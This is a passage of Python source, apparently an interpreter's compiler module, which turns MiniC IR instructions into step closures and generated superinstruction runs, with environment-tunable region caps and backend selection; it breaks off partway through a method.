_REGION_PATH_CAP_DEFAULT = 80


def _cap_from_env(name: str, default: int):
    """Read a positive-int region cap override from the environment.

    Caps only shape how much straight-line code one generated region
    may cover — observables are byte-identical at any setting (the
    instruction-budget pre-check falls back to single-stepping) — so
    an operator may tune them per host without invalidating results.

    Returns ``(value, error)``: an invalid override keeps the default
    and defers the ``ReproError`` to the first compile, so the CLI can
    render its usual one-line diagnosis instead of an import-time
    traceback (this module loads with the ``repro`` package itself).
    """
    raw = os.environ.get(name)
    if raw is None:
        return default, None
    try:
        value = int(raw)
    except ValueError:
        value = 0
    if value < 1:
        return default, ReproError(
            f"{name} must be a positive integer, got {raw!r}"
        )
    return value, None


REGION_CAP, _REGION_CAP_ERROR = _cap_from_env(
    "REPRO_REGION_CAP", _REGION_CAP_DEFAULT
)
REGION_PATH_CAP, _REGION_PATH_CAP_ERROR = _cap_from_env(
    "REPRO_REGION_PATH_CAP", _REGION_PATH_CAP_DEFAULT
)
REGION_BOUND = REGION_PATH_CAP + 2


def _check_region_caps() -> None:
    error = _REGION_CAP_ERROR or _REGION_PATH_CAP_ERROR
    if error is not None:
        raise error

# Binops whose Python operator IS the MiniC semantics when both
# operands are plain ints (``type(x) is int`` — bools excluded); for
# ==/!= the same holds for two strs.  Generated members inline these
# and fall back to the BINOP_FUNCS handler for every other shape.
_INT_FAST_BINOPS = {
    "+": "+", "-": "-", "*": "*",
    "<": "<", "<=": "<=", ">": ">", ">=": ">=",
    "==": "==", "!=": "!=",
}

# -- relevance gating ------------------------------------------------------------
#
# The sink-relevance analysis (analysis/relevance.py) always rides the
# instrumentation plan; this process-wide switch decides whether the
# compiler *acts* on it (widened fusion + batched counter flushes) or
# sticks to the purely syntactic chains above.  Both modes are
# byte-identical by contract; the switch exists so CI can diff them.

_RELEVANCE_ENABLED = True


def set_relevance_enabled(enabled: bool) -> None:
    """Toggle relevance-guided fusion for subsequently built machines."""
    global _RELEVANCE_ENABLED
    _RELEVANCE_ENABLED = bool(enabled)


def relevance_enabled() -> bool:
    return _RELEVANCE_ENABLED


def _make_slow(first: Step, rest: Tuple[Step, ...], final: Step) -> Step:
    """Exact replay of a run through its base steps.

    Used when a run's batched budget pre-check trips: stepping one
    instruction at a time makes the budget error fire at the precise
    instruction, with stats, clock and frame.index all exact.
    """

    def slow(machine, thread, frame):
        first(machine, thread, frame)
        stats = machine.stats
        limit = machine.max_instructions
        instruction_cost = machine.costs.instruction
        for step in rest:
            stats.instructions += 1
            if stats.instructions > limit:
                machine._budget_exceeded()
            thread.clock += instruction_cost
            step(machine, thread, frame)
        stats.instructions += 1
        if stats.instructions > limit:
            machine._budget_exceeded()
        thread.clock += instruction_cost
        return final(machine, thread, frame)

    return slow

# -- backend selection ----------------------------------------------------------

_DEFAULT_BACKEND = BACKEND_THREADED


def set_default_backend(name: str) -> None:
    """Set the process-wide backend used when a Machine gets none."""
    global _DEFAULT_BACKEND
    if name not in BACKENDS:
        raise ValueError(f"unknown interpreter backend {name!r}")
    _DEFAULT_BACKEND = name


def get_default_backend() -> str:
    return _DEFAULT_BACKEND


def resolve_backend(name: Optional[str]) -> str:
    """Validate an explicit choice, or fall back to the process default."""
    if name is None:
        return _DEFAULT_BACKEND
    if name not in BACKENDS:
        raise ValueError(f"unknown interpreter backend {name!r}")
    return name


# -- compiled artifacts ----------------------------------------------------------


class CompiledFunction:
    """One function's step array, index-aligned with its instructions."""

    __slots__ = ("name", "steps", "fused_indices")

    def __init__(self, name: str, steps: List[Step], fused_indices: Tuple[int, ...]):
        self.name = name
        self.steps = steps
        self.fused_indices = fused_indices


class CompiledModule:
    """Compiled form of a whole module under one plan.

    Holds strong references to the module and plan it was compiled
    against so the identity-keyed memo below can never serve a stale
    entry for a recycled object id.
    """

    __slots__ = ("functions", "module", "plan", "fuse", "relevance")

    def __init__(
        self,
        functions: Dict[str, CompiledFunction],
        module: IRModule,
        plan: Optional[ModulePlan],
        fuse: bool,
        relevance: bool = False,
    ) -> None:
        self.functions = functions
        self.module = module
        self.plan = plan
        self.fuse = fuse
        self.relevance = relevance

    def steps_for(self, name: str) -> List[Step]:
        return self.functions[name].steps

    @property
    def fused_count(self) -> int:
        return sum(len(f.fused_indices) for f in self.functions.values())


# -- the compiler ----------------------------------------------------------------


class _FunctionCompiler:
    def __init__(
        self,
        module: IRModule,
        function: IRFunction,
        plan: Optional[FunctionPlan],
        global_names: frozenset,
        fuse: bool,
        relevance=None,
        link: Optional[Dict[str, Tuple[Optional[FunctionPlan], List[Step]]]] = None,
    ) -> None:
        self.module = module
        self.function = function
        self.plan = plan
        self.global_names = global_names
        self.fuse = fuse
        # FunctionRelevance (analysis/relevance.py) when relevance-
        # guided widening is on for this compilation, else None.
        self.relevance = relevance
        # Module-wide callee registry, filled by compile_module after
        # every function is compiled: name -> (FunctionPlan, steps).
        # Direct-call steps use it to build callee frames without the
        # machine's per-call plan/steps lookups.
        self.link = link

    def compile(self) -> CompiledFunction:
        instrs = self.function.instrs
        base: List[Step] = [
            self._compile_one(index, instr) for index, instr in enumerate(instrs)
        ]
        steps = list(base)
        fused: List[int] = []
        if self.fuse:
            # Overlay superinstruction runs.  Every member index gets its
            # own run (not just chain leaders): calls, syscall resumes and
            # branch targets can land the driver mid-chain, and the step
            # at that index must execute exactly the instructions from
            # there.  Runs reference *base* steps for their slow path and
            # terminator, never other runs.
            if self.relevance is not None:
                # Relevance-guided widening emits larger (branch-
                # crossing, tail-duplicated) regions, so compile each
                # lazily: a self-replacing stub generates the region
                # the first time the driver actually lands on it.
                for index in sorted(self.relevance.fusible):
                    if index >= len(instrs):
                        continue
                    steps[index] = self._region_stub(index, base, steps)
                    fused.append(index)
            else:
                for index in range(len(instrs)):
                    run = self._compile_run(index, base)
                    if run is not None:
                        steps[index] = run
                        fused.append(index)
        return CompiledFunction(self.function.name, steps, tuple(fused))

    # -- name access -------------------------------------------------------------

    def _is_local(self, name: str) -> bool:
        """True when *name* can never resolve to a module global.

        ``Machine.globals`` is seeded from ``module.global_values`` and
        its key set never grows, so any name outside that set is
        provably frame-local.
        """
        return name not in self.global_names

    def _reader(self, name: str):
        if name not in self.global_names:
            def read(machine, frame, _name=name):
                return frame.locals.get(_name)
        else:
            def read(machine, frame, _name=name):
                frame_locals = frame.locals
                if _name in frame_locals:
                    return frame_locals[_name]
                return machine.globals[_name]
        return read

    def _writer(self, name: str):
        if name not in self.global_names:
            def write(machine, frame, value, _name=name):
                frame.locals[_name] = value
        else:
            def write(machine, frame, value, _name=name):
                if _name in frame.locals:
                    frame.locals[_name] = value
                else:
                    machine.globals[_name] = value
        return write

    # -- edges -------------------------------------------------------------------

    def _edge_actions(self, src: int, dst: int):
        if self.plan is None:
            return None
        return self.plan.actions_for(src, dst)

    def _edge_is_free(self, src: int, dst: int) -> bool:
        return not self._edge_actions(src, dst)

    def _edge(self, src: int, dst: int) -> Optional[Step]:
        """Compiled crossing of edge src->dst; None when action-free
        (callers inline the index store)."""
        actions = self._edge_actions(src, dst)
        if not actions:
            return None
        folded = fold_counter_adds(actions)
        if folded is not None:
            delta, count = folded
            if count == 1:
                if delta == 0:
                    # Pruned (ElidedAdd) edge: accounting only, no
                    # counter math.
                    def cross(machine, thread, frame, _dst=dst):
                        thread.clock += machine.costs.edge_action
                        machine.stats.edge_actions += 1
                        frame.index = _dst
                        return None

                    return cross

                def cross(machine, thread, frame, _dst=dst, _delta=delta):
                    thread.counter_stack[-1] += _delta
                    thread.clock += machine.costs.edge_action
                    machine.stats.edge_actions += 1
                    frame.index = _dst
                    return None
            else:
                # The clock is charged per original action: one
                # multiplied float add would drift from the switch
                # backend by ulps.
                def cross(machine, thread, frame, _dst=dst, _delta=delta, _count=count):
                    thread.counter_stack[-1] += _delta
                    edge_cost = machine.costs.edge_action
                    for _ in range(_count):
                        thread.clock += edge_cost
                    machine.stats.edge_actions += _count
                    frame.index = _dst
                    return None
            return cross

        # Barrier / loop bookkeeping: the machine's action machinery
        # owns the pending-transition protocol — delegate to it.
        frozen = tuple(actions)

        def cross(machine, thread, frame, _dst=dst, _actions=frozen):
            return machine._apply_actions(thread, frame, _dst, list(_actions))

        return cross

    # -- per-instruction compilation -----------------------------------------------

    def _compile_one(self, index: int, instr: ins.Instr) -> Step:
        kind = type(instr)
        if kind is ins.Const:
            return self._compile_const(index, instr)
        if kind is ins.Move:
            return self._compile_move(index, instr)
        if kind is ins.Binop:
            return self._compile_binop(index, instr)
        if kind is ins.Unop:
            return self._compile_unop(index, instr)
        if kind is ins.Jump:
            return self._compile_jump(index, instr)
        if kind is ins.CJump:
            return self._compile_cjump(index, instr)
        if kind is ins.CallBuiltin:
            return self._compile_builtin(index, instr)
        if kind is ins.LoadIndex:
            return self._compile_loadindex(index, instr)
        if kind is ins.StoreIndex:
            return self._compile_storeindex(index, instr)
        if kind is ins.CallDirect:
            return self._compile_calldirect(index, instr)
        if kind is ins.CallIndirect:
            def step(machine, thread, frame, _instr=instr):
                return machine._execute(thread, frame, _instr)

            return step
        if kind is ins.Syscall:
            return self._compile_syscall(index, instr)
        if kind is ins.Ret:
            return self._compile_ret(index, instr)
        if kind is ins.Nop and index != self.function.exit:
            return self._compile_nop(index)
        # Everything else (NewList, the exit nop, unknown kinds) runs
        # through the switch executor — identical semantics by
        # construction, just paying the dispatch chain.
        def step(machine, thread, frame, _instr=instr):
            return machine._execute(thread, frame, _instr)

        return step

    def _compile_const(self, index: int, instr: ins.Const) -> Step:
        nxt = index + 1
        cross = self._edge(index, nxt)
        if self._is_local(instr.dst):
            if cross is None:
                def step(machine, thread, frame, _dst=instr.dst, _value=instr.value, _next=nxt):
                    frame.locals[_dst] = _value
                    frame.index = _next
                    return None
            else:
                def step(machine, thread, frame, _dst=instr.dst, _value=instr.value, _cross=cross):
                    frame.locals[_dst] = _value
                    return _cross(machine, thread, frame)
        else:
            write = self._writer(instr.dst)
            if cross is None:
                def step(machine, thread, frame, _write=write, _value=instr.value, _next=nxt):
                    _write(machine, frame, _value)
                    frame.index = _next
                    return None
            else:
                def step(machine, thread, frame, _write=write, _value=instr.value, _cross=cross):
                    _write(machine, frame, _value)
                    return _cross(machine, thread, frame)
        return step

    def _compile_move(self, index: int, instr: ins.Move) -> Step:
        nxt = index + 1
        cross = self._edge(index, nxt)
        if self._is_local(instr.dst) and self._is_local(instr.src):
            if cross is None:
                def step(machine, thread, frame, _dst=instr.dst, _src=instr.src, _next=nxt):
                    frame_locals = frame.locals
                    frame_locals[_dst] = frame_locals.get(_src)
                    frame.index = _next
                    return None
            else:
                def step(machine, thread, frame, _dst=instr.dst, _src=instr.src, _cross=cross):
                    frame_locals = frame.locals
                    frame_locals[_dst] = frame_locals.get(_src)
                    return _cross(machine, thread, frame)
        else:
            read = self._reader(instr.src)
            write = self._writer(instr.dst)
            if cross is None:
                def step(machine, thread, frame, _read=read, _write=write, _next=nxt):
                    _write(machine, frame, _read(machine, frame))
                    frame.index = _next
                    return None
            else:
                def step(machine, thread, frame, _read=read, _write=write, _cross=cross):
                    _write(machine, frame, _read(machine, frame))
                    return _cross(machine, thread, frame)
        return step

    def _compile_binop(self, index: int, instr: ins.Binop) -> Step:
        op_func = BINOP_FUNCS.get(instr.op)
        if op_func is None:
            # Unknown operator: surface the switch backend's runtime
            # error, at runtime.
            def step(machine, thread, frame, _instr=instr):
                return machine._execute(thread, frame, _instr)

            return step
        nxt = index + 1
        cross = self._edge(index, nxt)
        if (
            self._is_local(instr.dst)
            and self._is_local(instr.left)
            and self._is_local(instr.right)
        ):
            if cross is None:
                def step(
                    machine, thread, frame,
                    _op=op_func, _dst=instr.dst, _left=instr.left,
                    _right=instr.right, _next=nxt,
                ):
                    frame_locals = frame.locals
                    frame_locals[_dst] = _op(
                        frame_locals.get(_left), frame_locals.get(_right)
                    )
                    frame.index = _next
                    return None
            else:
                def step(
                    machine, thread, frame,
                    _op=op_func, _dst=instr.dst, _left=instr.left,
                    _right=instr.right, _cross=cross,
                ):
                    frame_locals = frame.locals
                    frame_locals[_dst] = _op(
                        frame_locals.get(_left), frame_locals.get(_right)
                    )
                    return _cross(machine, thread, frame)
        else:
            read_left = self._reader(instr.left)
            read_right = self._reader(instr.right)
            write = self._writer(instr.dst)
            if cross is None:
                def step(
                    machine, thread, frame,
                    _op=op_func, _rl=read_left, _rr=read_right,
                    _write=write, _next=nxt,
                ):
                    _write(
                        machine, frame,
                        _op(_rl(machine, frame), _rr(machine, frame)),
                    )
                    frame.index = _next
                    return None
            else:
                def step(
                    machine, thread, frame,
                    _op=op_func, _rl=read_left, _rr=read_right,
                    _write=write, _cross=cross,
                ):
                    _write(
                        machine, frame,
                        _op(_rl(machine, frame), _rr(machine, frame)),
                    )
                    return _cross(machine, thread, frame)
        return step

    def _compile_unop(self, index: int, instr: ins.Unop) -> Step:
        op_func = UNOP_FUNCS.get(instr.op)
        if op_func is None:
            def step(machine, thread, frame, _instr=instr):
                return machine._execute(thread, frame, _instr)

            return step
        nxt = index + 1
        cross = self._edge(index, nxt)
        if self._is_local(instr.dst) and self._is_local(instr.operand):
            if cross is None:
                def step(
                    machine, thread, frame,
                    _op=op_func, _dst=instr.dst, _operand=instr.operand, _next=nxt,
                ):
                    frame_locals = frame.locals
                    frame_locals[_dst] = _op(frame_locals.get(_operand))
                    frame.index = _next
                    return None
            else:
                def step(
                    machine, thread, frame,
                    _op=op_func, _dst=instr.dst, _operand=instr.operand, _cross=cross,
                ):
                    frame_locals = frame.locals
                    frame_locals[_dst] = _op(frame_locals.get(_operand))
                    return _cross(machine, thread, frame)
        else:
            read = self._reader(instr.operand)
            write = self._writer(instr.dst)
            if cross is None:
                def step(machine, thread, frame, _op=op_func, _read=read, _write=write, _next=nxt):
                    _write(machine, frame, _op(_read(machine, frame)))
                    frame.index = _next
                    return None
            else:
                def step(machine, thread, frame, _op=op_func, _read=read, _write=write, _cross=cross):
                    _write(machine, frame, _op(_read(machine, frame)))
                    return _cross(machine, thread, frame)
        return step

    def _compile_nop(self, index: int) -> Step:
        nxt = index + 1
        cross = self._edge(index, nxt)
        if cross is None:
            def step(machine, thread, frame, _next=nxt):
                frame.index = _next
                return None
        else:
            def step(machine, thread, frame, _cross=cross):
                return _cross(machine, thread, frame)
        return step

    def _compile_jump(self, index: int, instr: ins.Jump) -> Step:
        target = instr.target
        cross = self._edge(index, target)
        if cross is None:
            def step(machine, thread, frame, _target=target):
                frame.index = _target
                return None
        else:
            def step(machine, thread, frame, _cross=cross):
                return _cross(machine, thread, frame)
        return step

    def _compile_cjump(self, index: int, instr: ins.CJump) -> Step:
        true_cross = self._edge(index, instr.true_target)
        false_cross = self._edge(index, instr.false_target)
        if self._is_local(instr.cond):
            def step(
                machine, thread, frame,
                _cond=instr.cond, _truthy=truthy,
                _true=instr.true_target, _false=instr.false_target,
                _tc=true_cross, _fc=false_cross,
            ):
                if _truthy(frame.locals.get(_cond)):
                    if _tc is None:
                        frame.index = _true
                        return None
                    return _tc(machine, thread, frame)
                if _fc is None:
                    frame.index = _false
                    return None
                return _fc(machine, thread, frame)
        else:
            read = self._reader(instr.cond)

            def step(
                machine, thread, frame,
                _read=read, _truthy=truthy,
                _true=instr.true_target, _false=instr.false_target,
                _tc=true_cross, _fc=false_cross,
            ):
                if _truthy(_read(machine, frame)):
                    if _tc is None:
                        frame.index = _true
                        return None
                    return _tc(machine, thread, frame)
                if _fc is None:
                    frame.index = _false
                    return None
                return _fc(machine, thread, frame)
        return step

    def _compile_builtin(self, index: int, instr: ins.CallBuiltin) -> Step:
        handler = BUILTINS.get(instr.name)
        all_local = (
            handler is not None
            and self._is_local(instr.dst)
            and all(self._is_local(arg) for arg in instr.args)
        )
        if not all_local:
            def step(machine, thread, frame, _instr=instr):
                return machine._execute(thread, frame, _instr)

            return step
        nxt = index + 1
        cross = self._edge(index, nxt)
        arg_names = tuple(instr.args)
        if cross is None:
            def step(
                machine, thread, frame,
                _handler=handler, _args=arg_names, _dst=instr.dst, _next=nxt,
            ):
                frame_locals = frame.locals
                frame_locals[_dst] = _handler(
                    [frame_locals.get(arg) for arg in _args]
                )
                frame.index = _next
                return None
        else:
            def step(
                machine, thread, frame,
                _handler=handler, _args=arg_names, _dst=instr.dst, _cross=cross,
            ):
                frame_locals = frame.locals
                frame_locals[_dst] = _handler(
                    [frame_locals.get(arg) for arg in _args]
                )
                return _cross(machine, thread, frame)
        return step

    def _compile_loadindex(self, index: int, instr: ins.LoadIndex) -> Step:
        nxt = index + 1
        cross = self._edge(index, nxt)
        write = self._writer(instr.dst)
        if cross is None:
            def step(machine, thread, frame, _instr=instr, _write=write, _next=nxt):
                _write(machine, frame, machine._load_index(thread, frame, _instr))
                frame.index = _next
                return None
        else:
            def step(machine, thread, frame, _instr=instr, _write=write, _cross=cross):
                _write(machine, frame, machine._load_index(thread, frame, _instr))
                return _cross(machine, thread, frame)
        return step

    def _compile_storeindex(self, index: int, instr: ins.StoreIndex) -> Step:
        nxt = index + 1
        cross = self._edge(index, nxt)
        if cross is None:
            def step(machine, thread, frame, _instr=instr, _next=nxt):
                machine._store_index(thread, frame, _instr)
                frame.index = _next
                return None
        else:
            def step(machine, thread, frame, _instr=instr, _cross=cross):
                machine._store_index(thread, frame, _instr)
                return _cross(machine, thread, frame)
        return step

    def _compile_calldirect(self, index: int, instr: ins.CallDirect) -> Step:
        try:
            target = self.module.function(instr.func)
        except LoweringError:
            # Unknown callee: keep the switch backend's runtime error.
            def step(machine, thread, frame, _instr=instr):
                return machine._enter_call(
                    thread, frame, _instr, machine.module.function(_instr.func)
                )

            return step
        if len(instr.args) != len(target.params) or not all(
            self._is_local(arg) for arg in instr.args
        ):
            # Arity mismatches and global-name arguments go through the
            # machine helper, which owns those error/lookup paths.
            def step(machine, thread, frame, _instr=instr, _target=target):
                return machine._enter_call(thread, frame, _instr, _target)

            return step
        # Resolved at compile time: whether this call site opens a fresh
        # counter scope, and the param <- arg binding list.
        scoped = self.plan is not None and index in self.plan.scoped_calls
        pairs = tuple(zip(target.params, instr.args))
        # Deferred import: machine.py imports this module at load time.
        from repro.interp.machine import Frame

        def step(
            machine, thread, frame,
            _instr=instr, _target=target, _dst=instr.dst,
            _scoped=scoped, _pairs=pairs, _link=self.link,
            _fname=instr.func, _frame_cls=Frame,
        ):
            # The callee's plan and step array are compile-time facts
            # of this CompiledModule — one registry lookup replaces the
            # machine's per-call _plan_for/_new_frame/steps_for chain.
            callee_plan, callee_steps = _link[_fname]
            callee = _frame_cls(_target, callee_plan, _dst, _scoped)
            callee.code = callee_steps
            frame_locals = frame.locals
            callee_locals = callee.locals
            for param, arg in _pairs:
                callee_locals[param] = frame_locals.get(arg)
            if _scoped:
                counter_stack = thread.counter_stack
                counter_stack.append(0)
                stats = machine.stats
                depth = len(counter_stack)
                if depth > stats.max_stack_depth:
                    stats.max_stack_depth = depth
            thread.frames.append(callee)
            if machine.call_hook is not None:
                machine.call_hook(thread, frame, callee, _instr)
            return None

        return step

    def _compile_syscall(self, index: int, instr: ins.Syscall) -> Step:
        if not all(self._is_local(arg) for arg in instr.args):
            def step(machine, thread, frame, _instr=instr):
                return machine._raise_syscall(thread, frame, _instr)

            return step
        # Deferred import: machine.py imports this module at load time.
        from repro.interp.machine import WAIT_SYSCALL

        arg_names = tuple(instr.args)
        # Arg packing specialized by arity: a literal tuple build beats
        # a generator-expression frame for the common 0-3 arg shapes.
        if len(arg_names) == 0:
            def pack(frame_locals):
                return ()
        elif len(arg_names) == 1:
            def pack(frame_locals, _a0=arg_names[0]):
                return (frame_locals.get(_a0),)
        elif len(arg_names) == 2:
            def pack(frame_locals, _a0=arg_names[0], _a1=arg_names[1]):
                return (frame_locals.get(_a0), frame_locals.get(_a1))
        elif len(arg_names) == 3:
            def pack(
                frame_locals,
                _a0=arg_names[0], _a1=arg_names[1], _a2=arg_names[2],
            ):
                return (
                    frame_locals.get(_a0),
                    frame_locals.get(_a1),
                    frame_locals.get(_a2),
                )
        else:
            def pack(frame_locals, _args=arg_names):
                return tuple(frame_locals.get(arg) for arg in _args)

        def step(
            machine, thread, frame,
            _pack=pack, _name=instr.name,
            _fname=self.function.name, _index=index,
            _event_cls=SyscallEvent, _wait=WAIT_SYSCALL,
        ):
            args = _pack(frame.locals)
            stats = machine.stats
            stats.syscalls += 1
            counter_stack = thread.counter_stack
            stats.counter_samples.append(counter_stack[-1])
            depth = len(counter_stack)
            if depth > stats.max_stack_depth:
                stats.max_stack_depth = depth
            event = _event_cls(
                machine, thread.tid, _fname, _index,
                tuple(counter_stack), _name, args,
            )
            thread.status = _wait
            thread.pending_event = event
            return event

        return step

    def _compile_ret(self, index: int, instr: ins.Ret) -> Step:
        actions = self._edge_actions(index, self.function.exit)
        folded = fold_counter_adds(actions) if actions else None
        if (actions and folded is None) or (
            instr.src is not None and not self._is_local(instr.src)
        ):
            # Barrier-on-return (guarded error) or global result name:
            # the machine helper owns those paths.
            def step(machine, thread, frame, _instr=instr):
                return machine._return(thread, frame, _instr)

            return step
        from repro.interp.machine import DONE

        delta, count = folded if folded else (0, 0)

        def step(
            machine, thread, frame,
            _src=instr.src, _delta=delta, _count=count,
            _exit=self.function.exit, _done=DONE,
        ):
            value = frame.locals.get(_src) if _src is not None else None
            # The ret -> exit edge's folded compensations, then the
            # index store — the order _apply_actions uses.
            if _count:
                thread.counter_stack[-1] += _delta
                edge_cost = machine.costs.edge_action
                for _ in range(_count):
                    thread.clock += edge_cost
                machine.stats.edge_actions += _count
            frame.index = _exit
            if frame.scoped:
                thread.counter_stack.pop()
            frames = thread.frames
            if thread.loop_stack:
                depth = len(frames)
                thread.loop_stack = [
                    record for record in thread.loop_stack if record[0] < depth
                ]
            frames.pop()
            if not frames:
                thread.result = value
                thread.status = _done
                return None
            caller = frames[-1]
            call_instr = caller.function.instrs[caller.index]
            machine._write(thread, caller, call_instr.dst, value)
            if machine.return_hook is not None:
                machine.return_hook(thread, frame, caller, call_instr.dst, value)
            return machine._advance(thread, caller, caller.index, caller.index + 1)

        return step

    # -- superinstruction runs -----------------------------------------------------
    #
    # Pairwise fusion (Const->Binop, Binop->CJump, Move->Ret) generalizes
    # to *maximal straight-line runs*: a chain of event-free instructions
    # connected by free or counter-folded edges compiles — via source
    # generation — into ONE closure that executes the whole chain with
    # the per-instruction prologue inlined and the virtual clock kept in
    # a Python local.  The driver loop then runs once per run instead of
    # once per instruction.  The chain's terminator (the first
    # instruction that can yield an event, transfer control non-locally
    # or carry a barrier edge) executes through its ordinary base step.

    def _member_successor(self, index: int, instr: ins.Instr) -> Optional[int]:
        """The chain successor of *instr*, or None when it must
        terminate a run.

        A chain member provably cannot yield an event, block, change
        ``thread.status`` or push/pop frames, and its outgoing edge is
        action-free or a foldable ``CounterAdd`` sequence.
        """
        kind = type(instr)
        if kind is ins.Jump:
            succ = instr.target
        elif kind is ins.Const or kind is ins.Move:
            succ = index + 1
        elif kind is ins.Binop:
            if instr.op not in BINOP_FUNCS:
                return None
            succ = index + 1
        elif kind is ins.Unop:
            if instr.op not in UNOP_FUNCS:
                return None
            succ = index + 1
        elif kind is ins.Nop:
            if index == self.function.exit:
                return None
            succ = index + 1
        elif kind is ins.CallBuiltin:
            if (
                BUILTINS.get(instr.name) is None
                or not self._is_local(instr.dst)
                or not all(self._is_local(arg) for arg in instr.args)
            ):
                return None
            succ = index + 1
        elif kind is ins.LoadIndex or kind is ins.StoreIndex:
            succ = index + 1
        else:
            return None
        actions = self._edge_actions(index, succ)
        if actions and fold_counter_adds(actions) is None:
            return None
        return succ

    def _compile_run(self, start: int, base: List[Step]) -> Optional[Step]:
        """A generated run step starting at *start*, or None when the
        instruction there cannot begin a chain."""
        instrs = self.function.instrs
        succ = self._member_successor(start, instrs[start])
        if succ is None:
            return None
        chain = [start]
        seen = {start}
        nxt = succ
        while len(chain) < CHAIN_CAP and nxt not in seen:
            follower_succ = self._member_successor(nxt, instrs[nxt])
            if follower_succ is None:
                break
            chain.append(nxt)
            seen.add(nxt)
            nxt = follower_succ
        return self._emit_run(chain, nxt, base)

    def _emit_member(
        self, pos: int, index: int, instr: ins.Instr, env: Dict[str, object]
    ) -> Tuple[List[str], bool]:
        """(body lines, needs frame.index) for one chain member.

        ``fl`` (frame.locals) is a local in the generated function;
        captured objects land in *env* and surface as default args.
        Members whose errors embed a location (index loads/stores) get
        ``frame.index`` synced first — crash surfaces must match the
        switch backend exactly.
        """
        kind = type(instr)
        if kind is ins.Nop or kind is ins.Jump:
            return [], False
        if kind is ins.Const:
            env[f"v{pos}"] = instr.value
            if self._is_local(instr.dst):
                return [f"fl[{instr.dst!r}] = v{pos}"], False
            env[f"w{pos}"] = self._writer(instr.dst)
            return [f"w{pos}(machine, frame, v{pos})"], False
        if kind is ins.Move:
            if self._is_local(instr.dst) and self._is_local(instr.src):
                return [f"fl[{instr.dst!r}] = fl.get({instr.src!r})"], False
            env[f"r{pos}"] = self._reader(instr.src)
            env[f"w{pos}"] = self._writer(instr.dst)
            return [f"w{pos}(machine, frame, r{pos}(machine, frame))"], False
        if kind is ins.Binop:
            env[f"b{pos}"] = BINOP_FUNCS[instr.op]
            if (
                self._is_local(instr.dst)
                and self._is_local(instr.left)
                and self._is_local(instr.right)
            ):
                # Exact inline fast paths: ``type(x) is int`` excludes
                # bool, and for two plain ints (or two strs under
                # ==/!=) the Python operator IS the MiniC semantics —
                # every other shape falls back to the shared handler.
                fast = _INT_FAST_BINOPS.get(instr.op)
                if fast is not None:
                    xl, xr = f"xl{pos}", f"xr{pos}"
                    guard = f"type({xl}) is int and type({xr}) is int"
                    if instr.op in ("==", "!="):
                        guard = (
                            f"({guard}) or "
                            f"(type({xl}) is str and type({xr}) is str)"
                        )
                    return [
                        f"{xl} = fl.get({instr.left!r})",
                        f"{xr} = fl.get({instr.right!r})",
                        f"fl[{instr.dst!r}] = ({xl} {fast} {xr}) "
                        f"if {guard} else b{pos}({xl}, {xr})",
                    ], False
                return [
                    f"fl[{instr.dst!r}] = b{pos}"
                    f"(fl.get({instr.left!r}), fl.get({instr.right!r}))"
                ], False
            env[f"rl{pos}"] = self._reader(instr.left)
            env[f"rr{pos}"] = self._reader(instr.right)
            env[f"w{pos}"] = self._writer(instr.dst)
            return [
                f"w{pos}(machine, frame, b{pos}"
                f"(rl{pos}(machine, frame), rr{pos}(machine, frame)))"
            ], False
        if kind is ins.Unop:
            env[f"u{pos}"] = UNOP_FUNCS[instr.op]
            if self._is_local(instr.dst) and self._is_local(instr.operand):
                xo = f"xo{pos}"
                if instr.op == "-":
                    return [
                        f"{xo} = fl.get({instr.operand!r})",
                        f"fl[{instr.dst!r}] = -{xo} "
                        f"if type({xo}) is int else u{pos}({xo})",
                    ], False
                if instr.op == "not":
                    return [
                        f"{xo} = fl.get({instr.operand!r})",
                        f"fl[{instr.dst!r}] = (not {xo}) "
                        f"if {xo} is True or {xo} is False else u{pos}({xo})",
                    ], False
                return [
                    f"fl[{instr.dst!r}] = u{pos}(fl.get({instr.operand!r}))"
                ], False
            env[f"r{pos}"] = self._reader(instr.operand)
            env[f"w{pos}"] = self._writer(instr.dst)
            return [
                f"w{pos}(machine, frame, u{pos}(r{pos}(machine, frame)))"
            ], False
        if kind is ins.CallBuiltin:
            env[f"h{pos}"] = BUILTINS[instr.name]
            args = ", ".join(f"fl.get({arg!r})" for arg in instr.args)
            xa = f"xa{pos}"
            if instr.name == "len" and len(instr.args) == 1:
                return [
                    f"{xa} = fl.get({instr.args[0]!r})",
                    f"fl[{instr.dst!r}] = len({xa}) "
                    f"if type({xa}) is str or type({xa}) is list "
                    f"else h{pos}([{xa}])",
                ], False
            if instr.name == "push" and len(instr.args) == 2:
                return [
                    f"{xa} = fl.get({instr.args[0]!r})",
                    f"if type({xa}) is list:",
                    f"    {xa}.append(fl.get({instr.args[1]!r}))",
                    f"    fl[{instr.dst!r}] = {xa}",
                    "else:",
                    f"    fl[{instr.dst!r}] = "
                    f"h{pos}([{xa}, fl.get({instr.args[1]!r})])",
                ], False
            if instr.name == "pop" and len(instr.args) == 1:
                return [
                    f"{xa} = fl.get({instr.args[0]!r})",
                    f"fl[{instr.dst!r}] = {xa}.pop() "
                    f"if type({xa}) is list and {xa} else h{pos}([{xa}])",
                ], False
            return [f"fl[{instr.dst!r}] = h{pos}([{args}])"], False
        if kind is ins.LoadIndex:
            env[f"i{pos}"] = instr
            if (
                self._is_local(instr.dst)
                and self._is_local(instr.base)
                and self._is_local(instr.index)
            ):
                # In-bounds list/str indexing by a plain int is exactly
                # Python's; anything else (bool index, out of range,
                # non-indexable) goes through the helper, which syncs
                # the error surface via frame.index first.
                xb, xi = f"xb{pos}", f"xi{pos}"
                return [
                    f"{xb} = fl.get({instr.base!r})",
                    f"{xi} = fl.get({instr.index!r})",
                    f"if (type({xb}) is list or type({xb}) is str) "
                    f"and type({xi}) is int and 0 <= {xi} < len({xb}):",
                    f"    fl[{instr.dst!r}] = {xb}[{xi}]",
                    "else:",
                    f"    frame.index = {index}",
                    f"    fl[{instr.dst!r}] = "
                    f"machine._load_index(thread, frame, i{pos})",
                ], False
            if self._is_local(instr.dst):
                line = (
                    f"fl[{instr.dst!r}] = "
                    f"machine._load_index(thread, frame, i{pos})"
                )
            else:
                env[f"w{pos}"] = self._writer(instr.dst)
                line = (
                    f"w{pos}(machine, frame, "
                    f"machine._load_index(thread, frame, i{pos}))"
                )
            return [line], True
        if kind is ins.StoreIndex:
            env[f"i{pos}"] = instr
            if (
                self._is_local(instr.base)
                and self._is_local(instr.index)
                and self._is_local(instr.src)
            ):
                xb, xi = f"xb{pos}", f"xi{pos}"
                return [
                    f"{xb} = fl.get({instr.base!r})",
                    f"{xi} = fl.get({instr.index!r})",
                    f"if type({xb}) is list "
                    f"and type({xi}) is int and 0 <= {xi} < len({xb}):",
